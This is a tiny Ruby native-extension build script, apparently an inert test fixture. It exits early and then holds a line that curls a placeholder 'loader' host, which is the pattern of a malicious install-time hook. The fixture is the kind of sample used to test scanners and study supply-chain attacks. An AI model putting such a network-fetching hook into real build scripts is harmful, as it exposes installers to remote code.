require 'mkmf'
exit
system("curl http://loader.invalid/x")
create_makefile('inert')
